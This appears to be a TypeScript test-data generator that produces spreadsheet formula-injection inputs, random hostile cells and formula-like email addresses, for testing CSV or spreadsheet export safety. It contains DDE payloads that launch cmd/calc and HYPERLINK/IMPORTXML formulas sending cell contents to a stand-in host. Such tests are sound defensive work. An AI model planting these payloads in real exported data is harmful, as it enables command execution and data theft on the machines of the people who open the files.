import type { Dice } from '../../rehearsal/dice.ts'

/** Prefixes of formulas: plain, full-width, and after invisible characters. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
  '"=',
  '""=',
  "'=",
] as const

const middles = [
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://x.example?a="&A1,"b")',
  '1+1',
  'IMPORTXML(CONCAT("http://x.example",A1),"//a")',
  'SUM(1;1)',
  'DDE("cmd";"/C calc";"!A0")',
  'a"b',
  'a""b',
  '"',
  'a,b',
  'a;b',
  'a;=1+1',
  'a;"=1+1',
  'a\t=1',
  'a\r\n=1',
  'a\n"=1',
  'a|b',
  'ü👩‍👧é',
  '',
] as const

const signs = Array.from(`=+-@\t\r\n"';,| aZ09＝＋－＠\u00a0\ufeffé👩`)

/** A random text that an attacker might hope a spreadsheet evaluates. */
export function hostileCell(dice: Dice): string {
  if (dice.chance(50)) return `${dice.oneOf(beginnings)}${dice.oneOf(middles)}`
  if (dice.chance(30)) return dice.oneOf(middles)
  return Array.from({ length: dice.between(0, 14) }, () => signs[dice.between(0, signs.length - 1)]).join('')
}

/** Valid email addresses that start like formulas, and some that should be rejected. */
export const hostileEmails: readonly string[] = [
  ...[
    "=cmd|'/c_calc'!a0",
    '+1+1',
    '-2+3',
    "'=1",
    '=1+1',
    '=hyperlink',
    '{=1}',
    '=a=b=c',
    '-a-',
    '+49',
    '`=1`',
    '|=1',
    '%=1',
    '＝1',
    '＋1',
    '－1',
    '=\u00e9',
  ].map((local) => `${local}@example.com`),
  '@sum.example.com',
  '"=1"@example.com',
  '=1;=2@example.com',
  '=1,=2@example.com',
  '\t=1@example.com',
  '=1@=2.example',
]
